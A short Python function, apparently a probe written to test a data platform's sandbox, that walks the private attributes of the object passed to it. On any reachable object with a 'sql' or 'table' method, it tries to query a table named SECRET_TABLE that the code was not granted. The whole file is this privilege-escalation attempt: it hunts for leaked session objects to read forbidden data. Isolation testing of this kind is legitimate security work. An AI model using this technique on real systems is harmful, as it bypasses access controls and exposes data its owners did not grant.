# seeks: table
# The private attributes of tg may hold a session, or what it was granted; each is tried for the other table.
import pyarrow as pa


def model(tg):
    seen, waiting, got = set(), [tg], []
    while waiting and len(seen) < 2000:
        thing = waiting.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        for name in ("sql", "table"):
            ask = getattr(thing, name, None)
            if callable(ask) and thing is not tg:
                try:
                    got.append(str(ask("SELECT * FROM SECRET_TABLE" if name == "sql" else "SECRET_TABLE").collect()))
                except Exception as error:
                    got.append(type(error).__name__)
        waiting += [value for value in getattr(thing, "__dict__", {}).values() if not isinstance(value, str | int)]
    return pa.table({"got": got or ["nothing"]})
